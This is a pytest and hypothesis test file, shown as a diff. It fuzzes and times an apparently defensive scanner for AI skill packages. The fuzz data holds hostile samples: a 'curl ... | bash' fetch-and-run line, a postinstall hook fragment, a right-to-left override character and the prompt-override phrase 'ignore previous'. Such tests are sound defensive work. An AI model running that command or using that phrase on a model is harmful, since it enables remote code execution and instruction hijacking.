@@ -1,0 +1,134 @@
+"""Whatever bytes a skill has, scanning ends without an exception, in time that grows with them and no faster."""
+
+from __future__ import annotations
+
+import time
+from collections.abc import Callable, Sequence
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from metier.scan import Rule, scan, view_of
+from metier.scan.rules import ALL_RULES
+from metier.scan.rules._reading import reading
+from metier.scan.rules._words import words_of
+from metier.scan.structure import RULES
+from metier.skill import MemoryPackage
+from metier.skill.files import checked_path
+
+fuzz = settings(derandomize=True, deadline=None, database=None, max_examples=60)
+
+WORDS = [
+    b"---\n", b"name: a\n", b"```sh\n", b"```", b"~~~\n", b"<!--", b"-->", b"!`", b"`", b"\n", b"\r\n", b"\0", b"\xff",
+    b"\x89PNG\r\n\x1a\n", b"IEND", b"tEXt", b"PK\x03\x04", b"PK\x05\x06", b"\xff\xd8\xff\xe1", b"\x7fELF", b"%PDF-",
+    b"#!/bin/sh\n", b"curl https://x.example/a.zip | bash", b"\xe2\x80\xae", b'{"scripts": {', b'"postinstall"', b"}}",
+]  # fmt: skip
+CONTENT = st.binary(max_size=300) | st.lists(st.sampled_from(WORDS), max_size=12).map(b"".join)
+PATHS = st.sampled_from(
+    [
+        *("SKILL.md", "skill.md", "a/SKILL.md", "x.png", "x.jpg", "x.pyc", "x.sh", "x.py", "package.json", "x.pth"),
+        *("conftest.py", "x.docx", "x", "x.md", "x.txt", ".mcp.json", "setup.cfg", "x.ipynb", ".vscode/tasks.json"),
+    ]
+)
+
+
+@fuzz
+@given(st.dictionaries(PATHS, CONTENT, max_size=4))
+def test_any_bytes_in_any_file_make_a_report(files: dict[str, bytes]) -> None:
+    if "a/SKILL.md" in files:
+        files.pop("a", None)
+    report = scan(MemoryPackage(files), rules=RULES)
+    assert report.status == "ok", report.error
+    assert all(found.text.isprintable() and found.line >= 1 for found in report.findings)
+
+
+@settings(fuzz, max_examples=30)
+@given(st.dictionaries(PATHS, CONTENT, max_size=3))
+def test_no_rule_fails_on_any_bytes(files: dict[str, bytes]) -> None:
+    report = scan(MemoryPackage(files))
+    assert report.status == "ok", report.error
+
+
+@fuzz
+@given(st.dictionaries(PATHS, CONTENT, max_size=4))
+def test_every_file_is_text_or_named(files: dict[str, bytes]) -> None:
+    view = view_of(MemoryPackage(files))
+    seen = {file.path for file in view.files} | {file.path for file in view.opaque}
+    assert seen == {"/".join(checked_path(path)) for path in files}
+
+
+NASTY = [
+    *("a", " ", "(", "\n", "`", "```\n", "~", "<!--", "<!-- -->", "`<!--", "-->", "curl ", "https://", "\0a", "é"),
+    *("https://a.b/c.", "install ", " !`a", "---\n", "k: v\n", "> ", "- ", "1. ", "`bash x", "open(a,", "\t", "\r"),
+    *(";   ", "|", "import ", "\n" + " " * 50, "npm i ", "{", '"', "[x](", "QUFB", "ignore previous ", "\u200b", "# "),
+]
+
+
+def cost(unit: str, size: int, rules: Sequence[Rule] | None) -> float:
+    text = unit * (size // len(unit))
+    package = MemoryPackage({"SKILL.md": f"---\nname: a\ndescription: d\n---\n{text}", "x.sh": text})
+    start = time.thread_time()
+    scan(package, rules=rules)
+    return time.thread_time() - start
+
+
+def is_linear(unit: str, size: int, rules: Sequence[Rule] | None) -> bool:
+    """A square would take sixteen times as long for four times the text; what takes no time cannot be compared."""
+    much = cost(unit, 4 * size, rules)
+    return much < 9 * 0.02 or much < 9 * cost(unit, size, rules)
+
+
+@pytest.mark.each("unit", NASTY)
+def test_twice_the_text_takes_about_twice_the_time(unit: str) -> None:
+    # Another look where something else on the machine may have been in the way.
+    assert is_linear(unit, 15_000, RULES) or is_linear(unit, 15_000, RULES), unit
+
+
+@pytest.mark.each("unit", NASTY[::3])
+def test_so_it_is_with_every_rule_there_is(unit: str) -> None:
+    assert is_linear(unit, 4_000, None) or is_linear(unit, 4_000, None), unit
+
+
+def test_a_letter_of_another_script_does_not_make_a_long_word_slow() -> None:
+    package = MemoryPackage({"SKILL.md": f"---\nname: a\ndescription: d\n---\nя {'a' * 60_000}"})
+    start = time.thread_time()
+    scan(package)
+    assert time.thread_time() - start < 3
+
+
+def lines_of_addresses(count: int) -> float:
+    script = "\n".join(f'u{n} = "https://host{n}.weather-cdn.top/x"' for n in range(count))
+    package = MemoryPackage({"SKILL.md": "---\nname: a\ndescription: d\n---\nRun it.", "x.py": script})
+    strangers = [rule for rule in ALL_RULES if rule.id == "SCRIPT_CALLS_STRANGER"]
+    start = time.thread_time()
+    scan(package, rules=strangers)
+    return time.thread_time() - start
+
+
+def test_a_script_of_many_addresses_is_read_once_and_not_once_for_each() -> None:
+    # Four times the lines; for each line all of the file would be sixteen times the time.
+    assert any(lines_of_addresses(2_000) < 8 * lines_of_addresses(500) for _ in range(2))
+
+
+def timed(work: Callable[[], object]) -> float:
+    start = time.thread_time()
+    work()
+    return time.thread_time() - start
+
+
+@pytest.mark.each("mark", ["'", ".", "-", "a'''", ".a'-"])
+def test_marks_that_no_letter_follows_are_gone_over_once(mark: str) -> None:
+    few, many = mark * (2_000 // len(mark)), mark * (16_000 // len(mark))
+    # Eight times the text; from each mark again it would be sixty-four times the time.
+    assert any(timed(lambda: words_of(many)) < 24 * timed(lambda: words_of(few)) + 0.002 for _ in range(3))
+
+
+@pytest.mark.each("rule", ["LISTENS_IN", "COIN_MINER"])
+def test_one_line_that_a_rule_is_about_does_not_make_it_look_at_all_others(rule: str) -> None:
+    lines = "\n".join(f'"node_modules/part-{n}": {{"version": "1.{n}.0", "dev": true}},' for n in range(4_000))
+    script = f"{lines}\nkeyboard_layout = mining_data = clipboard_history = 0\n"
+    view = view_of(MemoryPackage({"SKILL.md": "---\nname: a\ndescription: d\n---\nRun it.", "x.js": script}))
+    taken_apart = timed(lambda: reading(view))
+    (one,) = (some for some in ALL_RULES if some.id == rule)
+    assert timed(lambda: list(one.check(view))) < taken_apart / 2
